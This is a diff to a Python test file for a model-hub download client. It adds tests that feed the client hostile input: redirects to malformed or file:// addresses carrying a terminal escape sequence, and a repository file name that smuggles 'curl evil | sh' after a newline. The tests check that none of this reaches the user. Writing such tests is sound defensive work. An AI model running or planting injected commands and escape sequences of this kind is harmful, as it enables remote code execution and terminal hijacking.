@@ -1,6 +1,7 @@
 """Files from a hub: whole, with the right hash, examined, or not at all."""
 
 import hashlib
+import logging
 import os
 import time
 
@@ -155,6 +156,12 @@ def fall_silent(hub, patch):
     patch.setattr("tests.hub_server._Handler.do_GET", lambda self: time.sleep(0.3))
 
 
+def send_to(address):
+    return lambda hub, patch: patch.setattr(
+        "tests.hub_server._Handler.do_GET", lambda self: self.answer(302, Location=address)
+    )
+
+
 @pytest.mark.parametrize(
     ("fall_ill", "told"),
     [
@@ -162,6 +169,10 @@ def fall_silent(hub, patch):
         (lambda hub, patch: patch.setattr(hub, "status", 429), "Too many requests"),
         (lambda hub, patch: patch.setattr(hub, "listing", "<html>Log in to this Wi-Fi"), "gives no list of its files"),
         (fall_silent, "the connection to"),
+        (send_to("https://[x]/y"), "or what it sends on to, is no address"),
+        (send_to("https://a..b/y"), "or what it sends on to, is no address"),
+        (send_to("file://\x1bc-pwned/x"), r"'\x1bc-pwned' answers with status 302"),
+        (send_to(f"file://{'x' * 5_000}/x"), f"'{'x' * 56}... answers with status 302"),
     ],
 )
 def test_where_the_hub_is_ill_what_was_pulled_before_still_plays(hub, monkeypatch, cli, caplog, fall_ill, told):
@@ -172,6 +183,19 @@ def test_where_the_hub_is_ill_what_was_pulled_before_still_plays(hub, monkeypatc
     assert told in caplog.text
     assert "Taken instead: what was pulled before." in caplog.text
     assert cli("hub", "pull", "ada/pong").code == 1
+
+
+def test_what_the_command_line_warns_of_steers_no_terminal(hub, monkeypatch, cli, capfd):
+    hub.add("ada/pong", {"nano.onnx": NANO})
+    pull()
+    send_to("file://\x1bc-pwned/x")(hub, monkeypatch)
+    outcome = cli("play", "hub:ada/pong", "--headless", "--max-steps", 1)
+    assert outcome.code == 0
+    assert "warning: ada/pong: " in outcome.err
+    assert "Taken instead: what was pulled before.\n" in outcome.err
+    assert "\x1b" not in outcome.err
+    logging.getLogger("edgedistill.any").warning("a\x1bc")
+    assert capfd.readouterr().err == "warning: a\ufffdc\n"
 
 
 def test_what_the_hub_refuses_is_not_taken_from_the_cache(hub):
@@ -318,9 +342,19 @@ def test_a_name_that_is_none_is_refused(hub, cli, name, complaint):
 )
 def test_a_repository_whose_file_would_leave_its_folder_is_refused(hub, cached, path):
     hub.add("eve/pong", {"README.md": b"", path: NANO})
-    with pytest.raises(BadRequest, match="would leave its folder"):
+    with pytest.raises(BadRequest, match="would leave its folder") as refusal:
         pull("eve/pong")
+    assert str(refusal.value).isprintable()
     assert cached() == []
+
+
+@pytest.mark.parametrize("name", ["eve/pong", "eve/pong:nothing"])
+def test_a_file_that_is_not_taken_is_not_offered(hub, cli, name):
+    hub.add("eve/pong", {"nano.onnx": NANO, "pico.onnx": PICO, "x'.\n\nnext:\n  curl evil | sh.onnx": PICO})
+    outcome = cli("hub", "pull", name)
+    assert outcome.code == 2
+    assert "nano.onnx" in outcome.err
+    assert "curl" not in outcome.err
 
 
 @pytest.mark.parametrize(
